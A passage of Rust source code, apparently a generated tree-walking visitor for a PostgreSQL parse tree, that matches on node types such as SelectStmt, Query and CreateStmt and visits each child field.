            visit_opt(n.xpr.as_deref(), f);
            visit_list(&n.args, f);
        }
        NodeRef::NamedArgExpr(n) => {
            visit_opt(n.xpr.as_deref(), f);
            visit_opt(n.arg.as_deref(), f);
        }
        NodeRef::OpExpr(n) => {
            visit_opt(n.xpr.as_deref(), f);
            visit_list(&n.args, f);
        }
        NodeRef::DistinctExpr(n) => {
            visit_opt(n.xpr.as_deref(), f);
            visit_list(&n.args, f);
        }
        NodeRef::NullIfExpr(n) => {
            visit_opt(n.xpr.as_deref(), f);
            visit_list(&n.args, f);
        }
        NodeRef::ScalarArrayOpExpr(n) => {
            visit_opt(n.xpr.as_deref(), f);
            visit_list(&n.args, f);
        }
        NodeRef::BoolExpr(n) => {
            visit_opt(n.xpr.as_deref(), f);
            visit_list(&n.args, f);
        }
        NodeRef::SubLink(n) => {
            visit_opt(n.xpr.as_deref(), f);
            visit_opt(n.testexpr.as_deref(), f);
            visit_list(&n.oper_name, f);
            visit_opt(n.subselect.as_deref(), f);
        }
        NodeRef::SubPlan(n) => {
            visit_opt(n.xpr.as_deref(), f);
            visit_opt(n.testexpr.as_deref(), f);
            visit_list(&n.param_ids, f);
            visit_list(&n.set_param, f);
            visit_list(&n.par_param, f);
            visit_list(&n.args, f);
        }
        NodeRef::AlternativeSubPlan(n) => {
            visit_opt(n.xpr.as_deref(), f);
            visit_list(&n.subplans, f);
        }
        NodeRef::FieldSelect(n) => {
            visit_opt(n.xpr.as_deref(), f);
            visit_opt(n.arg.as_deref(), f);
        }
        NodeRef::FieldStore(n) => {
            visit_opt(n.xpr.as_deref(), f);
            visit_opt(n.arg.as_deref(), f);
            visit_list(&n.newvals, f);
            visit_list(&n.fieldnums, f);
        }
        NodeRef::RelabelType(n) => {
            visit_opt(n.xpr.as_deref(), f);
            visit_opt(n.arg.as_deref(), f);
        }
        NodeRef::CoerceViaIo(n) => {
            visit_opt(n.xpr.as_deref(), f);
            visit_opt(n.arg.as_deref(), f);
        }
        NodeRef::ArrayCoerceExpr(n) => {
            visit_opt(n.xpr.as_deref(), f);
            visit_opt(n.arg.as_deref(), f);
            visit_opt(n.elemexpr.as_deref(), f);
        }
        NodeRef::ConvertRowtypeExpr(n) => {
            visit_opt(n.xpr.as_deref(), f);
            visit_opt(n.arg.as_deref(), f);
        }
        NodeRef::CollateExpr(n) => {
            visit_opt(n.xpr.as_deref(), f);
            visit_opt(n.arg.as_deref(), f);
        }
        NodeRef::CaseExpr(n) => {
            visit_opt(n.xpr.as_deref(), f);
            visit_opt(n.arg.as_deref(), f);
            visit_list(&n.args, f);
            visit_opt(n.defresult.as_deref(), f);
        }
        NodeRef::CaseWhen(n) => {
            visit_opt(n.xpr.as_deref(), f);
            visit_opt(n.expr.as_deref(), f);
            visit_opt(n.result.as_deref(), f);
        }
        NodeRef::CaseTestExpr(n) => {
            visit_opt(n.xpr.as_deref(), f);
        }
        NodeRef::ArrayExpr(n) => {
            visit_opt(n.xpr.as_deref(), f);
            visit_list(&n.elements, f);
        }
        NodeRef::RowExpr(n) => {
            visit_opt(n.xpr.as_deref(), f);
            visit_list(&n.args, f);
            visit_list(&n.colnames, f);
        }
        NodeRef::RowCompareExpr(n) => {
            visit_opt(n.xpr.as_deref(), f);
            visit_list(&n.opnos, f);
            visit_list(&n.opfamilies, f);
            visit_list(&n.inputcollids, f);
            visit_list(&n.largs, f);
            visit_list(&n.rargs, f);
        }
        NodeRef::CoalesceExpr(n) => {
            visit_opt(n.xpr.as_deref(), f);
            visit_list(&n.args, f);
        }
        NodeRef::MinMaxExpr(n) => {
            visit_opt(n.xpr.as_deref(), f);
            visit_list(&n.args, f);
        }
        NodeRef::SqlvalueFunction(n) => {
            visit_opt(n.xpr.as_deref(), f);
        }
        NodeRef::XmlExpr(n) => {
            visit_opt(n.xpr.as_deref(), f);
            visit_list(&n.named_args, f);
            visit_list(&n.arg_names, f);
            visit_list(&n.args, f);
        }
        NodeRef::NullTest(n) => {
            visit_opt(n.xpr.as_deref(), f);
            visit_opt(n.arg.as_deref(), f);
        }
        NodeRef::BooleanTest(n) => {
            visit_opt(n.xpr.as_deref(), f);
            visit_opt(n.arg.as_deref(), f);
        }
        NodeRef::CoerceToDomain(n) => {
            visit_opt(n.xpr.as_deref(), f);
            visit_opt(n.arg.as_deref(), f);
        }
        NodeRef::CoerceToDomainValue(n) => {
            visit_opt(n.xpr.as_deref(), f);
        }
        NodeRef::SetToDefault(n) => {
            visit_opt(n.xpr.as_deref(), f);
        }
        NodeRef::CurrentOfExpr(n) => {
            visit_opt(n.xpr.as_deref(), f);
        }
        NodeRef::NextValueExpr(n) => {
            visit_opt(n.xpr.as_deref(), f);
        }
        NodeRef::InferenceElem(n) => {
            visit_opt(n.xpr.as_deref(), f);
            visit_opt(n.expr.as_deref(), f);
        }
        NodeRef::TargetEntry(n) => {
            visit_opt(n.xpr.as_deref(), f);
            visit_opt(n.expr.as_deref(), f);
        }
        NodeRef::JoinExpr(n) => {
            visit_opt(n.larg.as_deref(), f);
            visit_opt(n.rarg.as_deref(), f);
            visit_list(&n.using_clause, f);
            if let Some(x) = &n.join_using_alias {
                f(NodeRef::Alias(x));
            }
            visit_opt(n.quals.as_deref(), f);
            if let Some(x) = &n.alias {
                f(NodeRef::Alias(x));
            }
        }
        NodeRef::FromExpr(n) => {
            visit_list(&n.fromlist, f);
            visit_opt(n.quals.as_deref(), f);
        }
        NodeRef::OnConflictExpr(n) => {
            visit_list(&n.arbiter_elems, f);
            visit_opt(n.arbiter_where.as_deref(), f);
            visit_list(&n.on_conflict_set, f);
            visit_opt(n.on_conflict_where.as_deref(), f);
            visit_list(&n.excl_rel_tlist, f);
        }
        NodeRef::IntoClause(n) => {
            if let Some(x) = &n.rel {
                f(NodeRef::RangeVar(x));
            }
            visit_list(&n.col_names, f);
            visit_list(&n.options, f);
            if let Some(x) = &n.view_query {
                f(NodeRef::Query(x));
            }
        }
        NodeRef::RawStmt(n) => {
            visit_opt(n.stmt.as_deref(), f);
        }
        NodeRef::Query(n) => {
            visit_opt(n.utility_stmt.as_deref(), f);
            visit_list(&n.cte_list, f);
            visit_list(&n.rtable, f);
            visit_list(&n.rteperminfos, f);
            if let Some(x) = &n.jointree {
                f(NodeRef::FromExpr(x));
            }
            visit_list(&n.merge_action_list, f);
            visit_opt(n.merge_join_condition.as_deref(), f);
            visit_list(&n.target_list, f);
            if let Some(x) = &n.on_conflict {
                f(NodeRef::OnConflictExpr(x));
            }
            visit_list(&n.returning_list, f);
            visit_list(&n.group_clause, f);
            visit_list(&n.grouping_sets, f);
            visit_opt(n.having_qual.as_deref(), f);
            visit_list(&n.window_clause, f);
            visit_list(&n.distinct_clause, f);
            visit_list(&n.sort_clause, f);
            visit_opt(n.limit_offset.as_deref(), f);
            visit_opt(n.limit_count.as_deref(), f);
            visit_list(&n.row_marks, f);
            visit_opt(n.set_operations.as_deref(), f);
            visit_list(&n.constraint_deps, f);
            visit_list(&n.with_check_options, f);
        }
        NodeRef::InsertStmt(n) => {
            if let Some(x) = &n.with_clause {
                f(NodeRef::WithClause(x));
            }
            if let Some(x) = &n.relation {
                f(NodeRef::RangeVar(x));
            }
            visit_list(&n.cols, f);
            visit_opt(n.select_stmt.as_deref(), f);
            if let Some(x) = &n.on_conflict_clause {
                f(NodeRef::OnConflictClause(x));
            }
            if let Some(x) = &n.returning_clause {
                f(NodeRef::ReturningClause(x));
            }
        }
        NodeRef::DeleteStmt(n) => {
            if let Some(x) = &n.with_clause {
                f(NodeRef::WithClause(x));
            }
            if let Some(x) = &n.relation {
                f(NodeRef::RangeVar(x));
            }
            visit_list(&n.using_clause, f);
            visit_opt(n.where_clause.as_deref(), f);
            if let Some(x) = &n.returning_clause {
                f(NodeRef::ReturningClause(x));
            }
        }
        NodeRef::UpdateStmt(n) => {
            if let Some(x) = &n.with_clause {
                f(NodeRef::WithClause(x));
            }
            if let Some(x) = &n.relation {
                f(NodeRef::RangeVar(x));
            }
            visit_list(&n.target_list, f);
            visit_opt(n.where_clause.as_deref(), f);
            visit_list(&n.from_clause, f);
            if let Some(x) = &n.returning_clause {
                f(NodeRef::ReturningClause(x));
            }
        }
        NodeRef::SelectStmt(n) => {
            if let Some(x) = &n.with_clause {
                f(NodeRef::WithClause(x));
            }
            visit_list(&n.distinct_clause, f);
            if let Some(x) = &n.into_clause {
                f(NodeRef::IntoClause(x));
            }
            visit_list(&n.target_list, f);
            visit_list(&n.from_clause, f);
            visit_opt(n.where_clause.as_deref(), f);
            visit_list(&n.group_clause, f);
            visit_opt(n.having_clause.as_deref(), f);
            visit_list(&n.window_clause, f);
            visit_list(&n.values_lists, f);
            visit_list(&n.sort_clause, f);
            visit_opt(n.limit_offset.as_deref(), f);
            visit_opt(n.limit_count.as_deref(), f);
            visit_list(&n.locking_clause, f);
            if let Some(x) = &n.larg {
                f(NodeRef::SelectStmt(x));
            }
            if let Some(x) = &n.rarg {
                f(NodeRef::SelectStmt(x));
            }
        }
        NodeRef::AlterTableStmt(n) => {
            if let Some(x) = &n.relation {
                f(NodeRef::RangeVar(x));
            }
            visit_list(&n.cmds, f);
        }
        NodeRef::AlterTableCmd(n) => {
            if let Some(x) = &n.newowner {
                f(NodeRef::RoleSpec(x));
            }
            visit_opt(n.def.as_deref(), f);
        }
        NodeRef::AlterDomainStmt(n) => {
            visit_list(&n.type_name, f);
            visit_opt(n.def.as_deref(), f);
        }
        NodeRef::SetOperationStmt(n) => {
            visit_opt(n.larg.as_deref(), f);
            visit_opt(n.rarg.as_deref(), f);
            visit_list(&n.col_types, f);
            visit_list(&n.col_typmods, f);
            visit_list(&n.col_collations, f);
            visit_list(&n.group_clauses, f);
        }
        NodeRef::GrantStmt(n) => {
            visit_list(&n.objects, f);
            visit_list(&n.privileges, f);
            visit_list(&n.grantees, f);
            if let Some(x) = &n.grantor {
                f(NodeRef::RoleSpec(x));
            }
        }
        NodeRef::GrantRoleStmt(n) => {
            visit_list(&n.granted_roles, f);
            visit_list(&n.grantee_roles, f);
            visit_list(&n.opt, f);
            if let Some(x) = &n.grantor {
                f(NodeRef::RoleSpec(x));
            }
        }
        NodeRef::AlterDefaultPrivilegesStmt(n) => {
            visit_list(&n.options, f);
            if let Some(x) = &n.action {
                f(NodeRef::GrantStmt(x));
            }
        }
        NodeRef::ClusterStmt(n) => {
            if let Some(x) = &n.relation {
                f(NodeRef::RangeVar(x));
            }
            visit_list(&n.params, f);
        }
        NodeRef::CopyStmt(n) => {
            if let Some(x) = &n.relation {
                f(NodeRef::RangeVar(x));
            }
            visit_opt(n.query.as_deref(), f);
            visit_list(&n.attlist, f);
            visit_list(&n.options, f);
            visit_opt(n.where_clause.as_deref(), f);
        }
        NodeRef::CreateStmt(n) => {
            if let Some(x) = &n.relation {
                f(NodeRef::RangeVar(x));
            }
            visit_list(&n.table_elts, f);
            visit_list(&n.inh_relations, f);
            if let Some(x) = &n.partbound {
                f(NodeRef::PartitionBoundSpec(x));
            }
            if let Some(x) = &n.partspec {
                f(NodeRef::PartitionSpec(x));
            }
            if let Some(x) = &n.of_typename {
                f(NodeRef::TypeName(x));
            }
            visit_list(&n.constraints, f);
            visit_list(&n.nnconstraints, f);
            visit_list(&n.options, f);
        }
        NodeRef::DefineStmt(n) => {
            visit_list(&n.defnames, f);
            visit_list(&n.args, f);
            visit_list(&n.definition, f);
        }
        NodeRef::DropStmt(n) => {
            visit_list(&n.objects, f);
        }
        NodeRef::TruncateStmt(n) => {
            visit_list(&n.relations, f);
        }
        NodeRef::CommentStmt(n) => {
            visit_opt(n.object.as_deref(), f);
        }
        NodeRef::IndexStmt(n) => {
            if let Some(x) = &n.relation {
                f(NodeRef::RangeVar(x));
            }
            visit_list(&n.index_params, f);
            visit_list(&n.index_including_params, f);
            visit_list(&n.options, f);
            visit_opt(n.where_clause.as_deref(), f);
            visit_list(&n.exclude_op_names, f);
        }
        NodeRef::CreateFunctionStmt(n) => {
            visit_list(&n.funcname, f);
            visit_list(&n.parameters, f);
            if let Some(x) = &n.return_type {
                f(NodeRef::TypeName(x));
            }
            visit_list(&n.options, f);
            visit_opt(n.sql_body.as_deref(), f);
        }
        NodeRef::AlterFunctionStmt(n) => {
            if let Some(x) = &n.func {
                f(NodeRef::ObjectWithArgs(x));
            }
            visit_list(&n.actions, f);
        }
        NodeRef::DoStmt(n) => {
            visit_list(&n.args, f);
        }
        NodeRef::RenameStmt(n) => {
            if let Some(x) = &n.relation {
                f(NodeRef::RangeVar(x));
            }
            visit_opt(n.object.as_deref(), f);
        }
        NodeRef::RuleStmt(n) => {
            if let Some(x) = &n.relation {
                f(NodeRef::RangeVar(x));
            }
            visit_opt(n.where_clause.as_deref(), f);
            visit_list(&n.actions, f);
        }
        NodeRef::TransactionStmt(n) => {
            visit_list(&n.options, f);
        }
        NodeRef::ViewStmt(n) => {
            if let Some(x) = &n.view {
                f(NodeRef::RangeVar(x));
            }
            visit_list(&n.aliases, f);
            visit_opt(n.query.as_deref(), f);
            visit_list(&n.options, f);
        }
        NodeRef::CreateDomainStmt(n) => {
            visit_list(&n.domainname, f);
            if let Some(x) = &n.type_name {
                f(NodeRef::TypeName(x));
            }
            if let Some(x) = &n.coll_clause {
                f(NodeRef::CollateClause(x));
            }
            visit_list(&n.constraints, f);
        }
        NodeRef::CreatedbStmt(n) => {
            visit_list(&n.options, f);
        }
        NodeRef::DropdbStmt(n) => {
            visit_list(&n.options, f);
        }
        NodeRef::VacuumStmt(n) => {
            visit_list(&n.options, f);
            visit_list(&n.rels, f);
        }
        NodeRef::ExplainStmt(n) => {
            visit_opt(n.query.as_deref(), f);
            visit_list(&n.options, f);
        }
        NodeRef::CreateTableAsStmt(n) => {
            visit_opt(n.query.as_deref(), f);
            if let Some(x) = &n.into {
                f(NodeRef::IntoClause(x));
            }
        }
        NodeRef::CreateSeqStmt(n) => {
            if let Some(x) = &n.sequence {
                f(NodeRef::RangeVar(x));
            }
            visit_list(&n.options, f);
        }
        NodeRef::AlterSeqStmt(n) => {
            if let Some(x) = &n.sequence {
                f(NodeRef::RangeVar(x));
            }
            visit_list(&n.options, f);
        }
        NodeRef::VariableSetStmt(n) => {
            visit_list(&n.args, f);
        }
        NodeRef::CreateTrigStmt(n) => {
            if let Some(x) = &n.relation {
                f(NodeRef::RangeVar(x));
            }
            visit_list(&n.funcname, f);
            visit_list(&n.args, f);
            visit_list(&n.columns, f);
            visit_opt(n.when_clause.as_deref(), f);
            visit_list(&n.transition_rels, f);
            if let Some(x) = &n.constrrel {
                f(NodeRef::RangeVar(x));
            }
        }
        NodeRef::CreatePlangStmt(n) => {
            visit_list(&n.plhandler, f);
            visit_list(&n.plinline, f);
            visit_list(&n.plvalidator, f);
        }
        NodeRef::CreateRoleStmt(n) => {
            visit_list(&n.options, f);
        }
        NodeRef::AlterRoleStmt(n) => {
            if let Some(x) = &n.role {
                f(NodeRef::RoleSpec(x));
            }
            visit_list(&n.options, f);
        }
        NodeRef::DropRoleStmt(n) => {
            visit_list(&n.roles, f);
        }
        NodeRef::LockStmt(n) => {
            visit_list(&n.relations, f);
        }
        NodeRef::ConstraintsSetStmt(n) => {
            visit_list(&n.constraints, f);
        }
        NodeRef::ReindexStmt(n) => {
            if let Some(x) = &n.relation {
                f(NodeRef::RangeVar(x));
            }
            visit_list(&n.params, f);
        }
        NodeRef::CreateSchemaStmt(n) => {
            if let Some(x) = &n.authrole {
                f(NodeRef::RoleSpec(x));
            }
            visit_list(&n.schema_elts, f);
        }
        NodeRef::AlterDatabaseStmt(n) => {
            visit_list(&n.options, f);
        }
        NodeRef::AlterDatabaseSetStmt(n) => {
            if let Some(x) = &n.setstmt {
                f(NodeRef::VariableSetStmt(x));
            }
        }
        NodeRef::AlterRoleSetStmt(n) => {
            if let Some(x) = &n.role {
                f(NodeRef::RoleSpec(x));
            }
            if let Some(x) = &n.setstmt {
                f(NodeRef::VariableSetStmt(x));
            }
        }
        NodeRef::CreateConversionStmt(n) => {
            visit_list(&n.conversion_name, f);
            visit_list(&n.func_name, f);
        }
        NodeRef::CreateCastStmt(n) => {
            if let Some(x) = &n.sourcetype {
                f(NodeRef::TypeName(x));
            }
            if let Some(x) = &n.targettype {
                f(NodeRef::TypeName(x));
            }
            if let Some(x) = &n.func {
                f(NodeRef::ObjectWithArgs(x));
            }
        }
        NodeRef::CreateOpClassStmt(n) => {
            visit_list(&n.opclassname, f);
            visit_list(&n.opfamilyname, f);
            if let Some(x) = &n.datatype {
                f(NodeRef::TypeName(x));
            }
            visit_list(&n.items, f);
        }
        NodeRef::CreateOpFamilyStmt(n) => {
            visit_list(&n.opfamilyname, f);
        }
        NodeRef::AlterOpFamilyStmt(n) => {
            visit_list(&n.opfamilyname, f);
            visit_list(&n.items, f);
        }
        NodeRef::PrepareStmt(n) => {
            visit_list(&n.argtypes, f);
            visit_opt(n.query.as_deref(), f);
        }
        NodeRef::ExecuteStmt(n) => {
            visit_list(&n.params, f);
        }
        NodeRef::DeclareCursorStmt(n) => {
            visit_opt(n.query.as_deref(), f);
        }
        NodeRef::CreateTableSpaceStmt(n) => {
            if let Some(x) = &n.owner {
                f(NodeRef::RoleSpec(x));
            }
            visit_list(&n.options, f);
        }
        NodeRef::AlterObjectDependsStmt(n) => {
            if let Some(x) = &n.relation {
                f(NodeRef::RangeVar(x));
            }
            visit_opt(n.object.as_deref(), f);
            if let Some(x) = &n.extname {
                f(NodeRef::String(x));
            }
        }
        NodeRef::AlterObjectSchemaStmt(n) => {
            if let Some(x) = &n.relation {
                f(NodeRef::RangeVar(x));
            }
            visit_opt(n.object.as_deref(), f);
        }
        NodeRef::AlterOwnerStmt(n) => {
            if let Some(x) = &n.relation {
                f(NodeRef::RangeVar(x));
            }
            visit_opt(n.object.as_deref(), f);
            if let Some(x) = &n.newowner {
                f(NodeRef::RoleSpec(x));
            }
        }
        NodeRef::AlterOperatorStmt(n) => {
            if let Some(x) = &n.opername {
                f(NodeRef::ObjectWithArgs(x));
            }
            visit_list(&n.options, f);
        }
        NodeRef::AlterTypeStmt(n) => {
            visit_list(&n.type_name, f);
            visit_list(&n.options, f);
        }
        NodeRef::DropOwnedStmt(n) => {
            visit_list(&n.roles, f);
        }
        NodeRef::ReassignOwnedStmt(n) => {
            visit_list(&n.roles, f);
            if let Some(x) = &n.newrole {
                f(NodeRef::RoleSpec(x));
            }
        }
        NodeRef::CompositeTypeStmt(n) => {
            if let Some(x) = &n.typevar {
                f(NodeRef::RangeVar(x));
            }
            visit_list(&n.coldeflist, f);
        }
        NodeRef::CreateEnumStmt(n) => {
            visit_list(&n.type_name, f);
            visit_list(&n.vals, f);
        }
        NodeRef::CreateRangeStmt(n) => {
            visit_list(&n.type_name, f);
            visit_list(&n.params, f);
        }
        NodeRef::AlterEnumStmt(n) => {
            visit_list(&n.type_name, f);
        }
        NodeRef::AlterTsdictionaryStmt(n) => {
            visit_list(&n.dictname, f);
            visit_list(&n.options, f);
        }
        NodeRef::AlterTsconfigurationStmt(n) => {
            visit_list(&n.cfgname, f);
            visit_list(&n.tokentype, f);
            visit_list(&n.dicts, f);
        }
        NodeRef::CreateFdwStmt(n) => {
            visit_list(&n.func_options, f);
            visit_list(&n.options, f);
        }
        NodeRef::AlterFdwStmt(n) => {
            visit_list(&n.func_options, f);
            visit_list(&n.options, f);
        }
        NodeRef::CreateForeignServerStmt(n) => {
            visit_list(&n.options, f);
        }
        NodeRef::AlterForeignServerStmt(n) => {
            visit_list(&n.options, f);
        }
        NodeRef::CreateUserMappingStmt(n) => {
            if let Some(x) = &n.user {
                f(NodeRef::RoleSpec(x));
            }
            visit_list(&n.options, f);
        }
        NodeRef::AlterUserMappingStmt(n) => {
            if let Some(x) = &n.user {
                f(NodeRef::RoleSpec(x));
            }
            visit_list(&n.options, f);
        }
        NodeRef::DropUserMappingStmt(n) => {
            if let Some(x) = &n.user {
                f(NodeRef::RoleSpec(x));
            }
        }
        NodeRef::AlterTableSpaceOptionsStmt(n) => {
            visit_list(&n.options, f);
        }
        NodeRef::AlterTableMoveAllStmt(n) => {
            visit_list(&n.roles, f);
        }
        NodeRef::SecLabelStmt(n) => {
            visit_opt(n.object.as_deref(), f);
        }
        NodeRef::CreateForeignTableStmt(n) => {
            if let Some(x) = &n.base_stmt {
                f(NodeRef::CreateStmt(x));
            }
            visit_list(&n.options, f);
        }
        NodeRef::ImportForeignSchemaStmt(n) => {
            visit_list(&n.table_list, f);
            visit_list(&n.options, f);
        }
        NodeRef::CreateExtensionStmt(n) => {
            visit_list(&n.options, f);
        }
        NodeRef::AlterExtensionStmt(n) => {
            visit_list(&n.options, f);
        }
        NodeRef::AlterExtensionContentsStmt(n) => {
            visit_opt(n.object.as_deref(), f);
        }
        NodeRef::CreateEventTrigStmt(n) => {
            visit_list(&n.whenclause, f);
            visit_list(&n.funcname, f);
        }
        NodeRef::RefreshMatViewStmt(n) => {
            if let Some(x) = &n.relation {
                f(NodeRef::RangeVar(x));
            }
        }
        NodeRef::AlterSystemStmt(n) => {
            if let Some(x) = &n.setstmt {
                f(NodeRef::VariableSetStmt(x));
            }
        }
        NodeRef::CreatePolicyStmt(n) => {
            if let Some(x) = &n.table {
                f(NodeRef::RangeVar(x));
            }
            visit_list(&n.roles, f);
            visit_opt(n.qual.as_deref(), f);
            visit_opt(n.with_check.as_deref(), f);
        }
        NodeRef::AlterPolicyStmt(n) => {
            if let Some(x) = &n.table {
                f(NodeRef::RangeVar(x));
            }
            visit_list(&n.roles, f);
            visit_opt(n.qual.as_deref(), f);
            visit_opt(n.with_check.as_deref(), f);
        }
        NodeRef::CreateTransformStmt(n) => {
            if let Some(x) = &n.type_name {
                f(NodeRef::TypeName(x));
            }
            if let Some(x) = &n.fromsql {
                f(NodeRef::ObjectWithArgs(x));
            }
            if let Some(x) = &n.tosql {
                f(NodeRef::ObjectWithArgs(x));
            }
        }
        NodeRef::CreateAmStmt(n) => {
            visit_list(&n.handler_name, f);
        }
        NodeRef::CreatePublicationStmt(n) => {
            visit_list(&n.options, f);
            visit_list(&n.pubobjects, f);
        }
        NodeRef::AlterPublicationStmt(n) => {
            visit_list(&n.options, f);
            visit_list(&n.pubobjects, f);
        }
        NodeRef::CreateSubscriptionStmt(n) => {
            visit_list(&n.publication, f);
            visit_list(&n.options, f);
        }
        NodeRef::AlterSubscriptionStmt(n) => {
            visit_list(&n.publication, f);
            visit_list(&n.options, f);
        }
        NodeRef::CreateStatsStmt(n) => {
            visit_list(&n.defnames, f);
            visit_list(&n.stat_types, f);
            visit_list(&n.exprs, f);
            visit_list(&n.relations, f);
        }
        NodeRef::AlterCollationStmt(n) => {
            visit_list(&n.collname, f);
        }
        NodeRef::CallStmt(n) => {
            if let Some(x) = &n.funccall {
                f(NodeRef::FuncCall(x));
            }
            if let Some(x) = &n.funcexpr {
                f(NodeRef::FuncExpr(x));
            }
            visit_list(&n.outargs, f);
        }
        NodeRef::AlterStatsStmt(n) => {
            visit_list(&n.defnames, f);
            visit_opt(n.stxstattarget.as_deref(), f);
        }
        NodeRef::AExpr(n) => {
            visit_list(&n.name, f);
            visit_opt(n.lexpr.as_deref(), f);
            visit_opt(n.rexpr.as_deref(), f);
        }
        NodeRef::ColumnRef(n) => {
            visit_list(&n.fields, f);
        }
        NodeRef::FuncCall(n) => {
            visit_list(&n.funcname, f);
            visit_list(&n.args, f);
            visit_list(&n.agg_order, f);
            visit_opt(n.agg_filter.as_deref(), f);
            if let Some(x) = &n.over {
                f(NodeRef::WindowDef(x));
            }
        }
        NodeRef::AIndices(n) => {
            visit_opt(n.lidx.as_deref(), f);
            visit_opt(n.uidx.as_deref(), f);
        }
        NodeRef::AIndirection(n) => {
            visit_opt(n.arg.as_deref(), f);
            visit_list(&n.indirection, f);
        }
        NodeRef::AArrayExpr(n) => {
            visit_list(&n.elements, f);
        }
        NodeRef::ResTarget(n) => {
            visit_list(&n.indirection, f);
            visit_opt(n.val.as_deref(), f);
        }
        NodeRef::MultiAssignRef(n) => {
            visit_opt(n.source.as_deref(), f);
        }
        NodeRef::TypeCast(n) => {
            visit_opt(n.arg.as_deref(), f);
            if let Some(x) = &n.type_name {
                f(NodeRef::TypeName(x));
            }
        }
        NodeRef::CollateClause(n) => {
            visit_opt(n.arg.as_deref(), f);
            visit_list(&n.collname, f);
        }
        NodeRef::SortBy(n) => {
            visit_opt(n.node.as_deref(), f);
            visit_list(&n.use_op, f);
        }
        NodeRef::WindowDef(n) => {
            visit_list(&n.partition_clause, f);
            visit_list(&n.order_clause, f);
            visit_opt(n.start_offset.as_deref(), f);
            visit_opt(n.end_offset.as_deref(), f);
        }
        NodeRef::RangeSubselect(n) => {
            visit_opt(n.subquery.as_deref(), f);
            if let Some(x) = &n.alias {
                f(NodeRef::Alias(x));
            }
        }
        NodeRef::RangeFunction(n) => {
            visit_list(&n.functions, f);
            if let Some(x) = &n.alias {
                f(NodeRef::Alias(x));
            }
            visit_list(&n.coldeflist, f);
        }
        NodeRef::RangeTableSample(n) => {
            visit_opt(n.relation.as_deref(), f);
            visit_list(&n.method, f);
            visit_list(&n.args, f);
            visit_opt(n.repeatable.as_deref(), f);
        }
        NodeRef::RangeTableFunc(n) => {
            visit_opt(n.docexpr.as_deref(), f);
            visit_opt(n.rowexpr.as_deref(), f);
            visit_list(&n.namespaces, f);
            visit_list(&n.columns, f);
            if let Some(x) = &n.alias {
                f(NodeRef::Alias(x));
            }
        }
        NodeRef::RangeTableFuncCol(n) => {
            if let Some(x) = &n.type_name {
                f(NodeRef::TypeName(x));
            }
            visit_opt(n.colexpr.as_deref(), f);
            visit_opt(n.coldefexpr.as_deref(), f);
        }
        NodeRef::TypeName(n) => {
            visit_list(&n.names, f);
            visit_list(&n.typmods, f);
            visit_list(&n.array_bounds, f);
        }
        NodeRef::ColumnDef(n) => {
            if let Some(x) = &n.type_name {
                f(NodeRef::TypeName(x));
            }
            visit_opt(n.raw_default.as_deref(), f);
            visit_opt(n.cooked_default.as_deref(), f);
            if let Some(x) = &n.identity_sequence {
                f(NodeRef::RangeVar(x));
            }
            if let Some(x) = &n.coll_clause {
                f(NodeRef::CollateClause(x));
            }
            visit_list(&n.constraints, f);
            visit_list(&n.fdwoptions, f);
        }
        NodeRef::IndexElem(n) => {
            visit_opt(n.expr.as_deref(), f);
            visit_list(&n.collation, f);
            visit_list(&n.opclass, f);
            visit_list(&n.opclassopts, f);
        }
        NodeRef::Constraint(n) => {
            visit_opt(n.raw_expr.as_deref(), f);
            visit_list(&n.keys, f);
            visit_list(&n.including, f);
            visit_list(&n.exclusions, f);
            visit_list(&n.options, f);
            visit_opt(n.where_clause.as_deref(), f);
            if let Some(x) = &n.pktable {
                f(NodeRef::RangeVar(x));
            }
            visit_list(&n.fk_attrs, f);
            visit_list(&n.pk_attrs, f);
            visit_list(&n.fk_del_set_cols, f);
            visit_list(&n.old_conpfeqop, f);
        }
        NodeRef::DefElem(n) => {
            visit_opt(n.arg.as_deref(), f);
        }
        NodeRef::RangeTblEntry(n) => {
            if let Some(x) = &n.alias {
                f(NodeRef::Alias(x));
            }
            if let Some(x) = &n.eref {
                f(NodeRef::Alias(x));
            }
            if let Some(x) = &n.tablesample {
                f(NodeRef::TableSampleClause(x));
            }
            if let Some(x) = &n.subquery {
                f(NodeRef::Query(x));
            }
            visit_list(&n.joinaliasvars, f);
            visit_list(&n.joinleftcols, f);
            visit_list(&n.joinrightcols, f);
            if let Some(x) = &n.join_using_alias {
                f(NodeRef::Alias(x));
            }
            visit_list(&n.functions, f);
            if let Some(x) = &n.tablefunc {
                f(NodeRef::TableFunc(x));
            }
            visit_list(&n.values_lists, f);
            visit_list(&n.coltypes, f);
            visit_list(&n.coltypmods, f);
            visit_list(&n.colcollations, f);
            visit_list(&n.groupexprs, f);
            visit_list(&n.security_quals, f);
        }
        NodeRef::RangeTblFunction(n) => {
            visit_opt(n.funcexpr.as_deref(), f);
            visit_list(&n.funccolnames, f);
            visit_list(&n.funccoltypes, f);
            visit_list(&n.funccoltypmods, f);
            visit_list(&n.funccolcollations, f);
        }
        NodeRef::TableSampleClause(n) => {
            visit_list(&n.args, f);
            visit_opt(n.repeatable.as_deref(), f);
        }
        NodeRef::WithCheckOption(n) => {
            visit_opt(n.qual.as_deref(), f);
        }
        NodeRef::GroupingSet(n) => {
            visit_list(&n.content, f);
        }
        NodeRef::WindowClause(n) => {
            visit_list(&n.partition_clause, f);
            visit_list(&n.order_clause, f);
            visit_opt(n.start_offset.as_deref(), f);
            visit_opt(n.end_offset.as_deref(), f);
        }
        NodeRef::ObjectWithArgs(n) => {
            visit_list(&n.objname, f);
            visit_list(&n.objargs, f);
            visit_list(&n.objfuncargs, f);
        }
        NodeRef::AccessPriv(n) => {
            visit_list(&n.cols, f);
        }
        NodeRef::CreateOpClassItem(n) => {
            if let Some(x) = &n.name {
                f(NodeRef::ObjectWithArgs(x));
            }
            visit_list(&n.order_family, f);
            visit_list(&n.class_args, f);
            if let Some(x) = &n.storedtype {
                f(NodeRef::TypeName(x));
            }
        }
        NodeRef::TableLikeClause(n) => {
            if let Some(x) = &n.relation {
                f(NodeRef::RangeVar(x));
            }
        }
        NodeRef::FunctionParameter(n) => {
            if let Some(x) = &n.arg_type {
                f(NodeRef::TypeName(x));
            }
            visit_opt(n.defexpr.as_deref(), f);
        }
        NodeRef::LockingClause(n) => {
            visit_list(&n.locked_rels, f);
        }
        NodeRef::XmlSerialize(n) => {
            visit_opt(n.expr.as_deref(), f);
            if let Some(x) = &n.type_name {
                f(NodeRef::TypeName(x));
            }
        }
        NodeRef::WithClause(n) => {
            visit_list(&n.ctes, f);
        }
        NodeRef::InferClause(n) => {
            visit_list(&n.index_elems, f);
            visit_opt(n.where_clause.as_deref(), f);
        }
        NodeRef::OnConflictClause(n) => {
